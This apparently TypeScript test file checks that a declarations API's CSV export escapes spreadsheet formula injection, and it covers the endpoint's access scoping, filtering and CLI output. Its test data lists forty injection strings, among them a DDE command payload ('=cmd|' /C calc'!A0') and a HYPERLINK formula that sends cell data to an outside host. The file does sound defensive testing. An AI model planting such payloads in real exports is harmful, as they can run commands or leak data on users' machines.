import { parse } from 'csv-parse/sync';
import { csvLine, guardText } from '../../api/presenters/csvText.js';
import { runCli } from '../../cli/main.js';
import { coffee, createDraft } from '../support/api/declarations.js';
import { get } from '../support/api/request.js';
import { startTestApi, type TestApi } from '../support/api/startTestApi.js';
import { report } from './report.js';

/** S11: what a spreadsheet would run, and what is written in its place. Forty cases, and what is left alone. */
const GUARDED: readonly (readonly [string, string])[] = [
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\tcell', "'\tcell"],
  ['\rcell', "'\rcell"],
  ['\ncell', "'\ncell"],
  ['\r\ncell', "'\r\ncell"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://a.example/?x="&A1,"open")', `'=HYPERLINK("http://a.example/?x="&A1,"open")`],
  [' =1', "' =1"],
  ['  +1', "'  +1"],
  ['   -1', "'   -1"],
  [' @a', "' @a"],
  ['\u00a0=1', "'\u00a0=1"],
  ['\u00a0 \u00a0+1', "'\u00a0 \u00a0+1"],
  ['\u2003=1', "'\u2003=1"],
  ['\u3000@a', "'\u3000@a"],
  ['\u200b=1', "'\u200b=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['\u2060-1', "'\u2060-1"],
  ['\t=1', `'\t'=1`],
  [' \t=1', ` \t'=1`],
  ['\n=1', `'\n'=1`],
  ['\r\n+1', `'\r\n'+1`],
  ['"=1', `'"=1`],
  ["'=1", "''=1"],
  ['\u201c=1', "'\u201c=1"],
  ['\uff1d1', "'\uff1d1"],
  ['\uff0b1', "'\uff0b1"],
  ['\uff0d1', "'\uff0d1"],
  ['\uff20a', "'\uff20a"],
  ['\u22121', "'\u22121"],
  ['beans\n=1', "beans\n'=1"],
  ['beans\r\n  @a', "beans\r\n'  @a"],
  ['beans\r-1', "beans\r'-1"],
  ['beans\u2028=1', "beans\u2028'=1"],
  ['beans\u000b+1', "beans\u000b'+1"],
  ['beans;=1', "beans;'=1"],
  ['beans\t=1', "beans\t'=1"],
];

const LEFT_ALONE = [
  '',
  'beans',
  'a=b',
  'a - b',
  'ING-2026-0117',
  '1 + 1',
  'mail@example.org',
  'two\nlines',
  '咖啡',
  "d'Or",
];

test('forty texts that a spreadsheet would run are guarded, and read back as they are guarded', () => {
  expect(GUARDED).toHaveLength(40);
  expect(GUARDED.map(([text]) => guardText(text))).toEqual(GUARDED.map(([, guarded]) => guarded));
  const table = GUARDED.map(([text]) => csvLine([text, 1, null])).join('');
  const read = parse(table, { record_delimiter: '\r\n' });
  expect(read).toEqual(GUARDED.map(([, guarded]) => [guarded, '1', '']));
  report('S11', { 'texts that a spreadsheet would run': GUARDED.length });
});

test('what no spreadsheet runs is left as it is', () => {
  expect(LEFT_ALONE.map(guardText)).toEqual(LEFT_ALONE);
});

describe('GET /v1/declarations.csv', () => {
  let api: TestApi;
  beforeAll(async () => {
    api = await startTestApi();
  });
  afterAll(() => api.close());

  const rowsOf = (text: string): Record<string, string>[] =>
    parse(text, { bom: true, columns: true, record_delimiter: '\r\n' }) as unknown as Record<string, string>[];

  test("holds the caller's declarations alone, guarded, as an attachment", async () => {
    const invoice = { number: '=1+1', date: '2026-11-20', currency: 'USD' };
    const own = await createDraft(api, 'exporter', coffee({ invoice }));
    const others = await createDraft(api, 'stranger');
    const answer = await get(api, '/v1/declarations.csv', 'exporter');
    expect([answer.status, answer.headers.get('content-type')]).toEqual([
      200,
      'text/csv; charset=utf-8; header=present',
    ]);
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="declarations.csv"');
    const rows = rowsOf(answer.text);
    expect(rows.map(({ id }) => id)).toContain(own);
    expect(rows.map(({ id }) => id)).not.toContain(others);
    expect(rows.find(({ id }) => id === own)).toMatchObject({ state: 'DRAFT', invoice_number: "'=1+1" });
  });

  test('is as long as asked for, and filtered as the list is', async () => {
    await createDraft(api);
    await createDraft(api);
    expect(rowsOf((await get(api, '/v1/declarations.csv?limit=1', 'exporter')).text)).toHaveLength(1);
    expect(rowsOf((await get(api, '/v1/declarations.csv?state=CLEARED', 'exporter')).text)).toEqual([]);
    const wrong = await get(api, '/v1/declarations.csv?state=%3D1', 'exporter');
    expect([wrong.status, wrong.body.code]).toEqual([400, 'REQUEST.PARAMETER_INVALID']);
  });

  test('portolan declarations --csv prints it', async () => {
    const lines: string[] = [];
    const context = { environment: {}, root: '', isTerminal: false, out: (line: string) => void lines.push(line) };
    const access = ['--url', api.url, '--token', api.people.exporter.token];
    expect(await runCli(['declarations', '--csv', ...access], { ...context, err: context.out })).toBe(0);
    expect(rowsOf(lines.join('\n')).map(({ state }) => state)).toContain('DRAFT');
    lines.length = 0;
    expect(await runCli(['declarations', '--state', 'DRAFT', ...access], { ...context, err: context.out })).toBe(0);
    expect(lines[0]).toMatch(/^declaration +state +flags +invoice +created$/);
  });
});
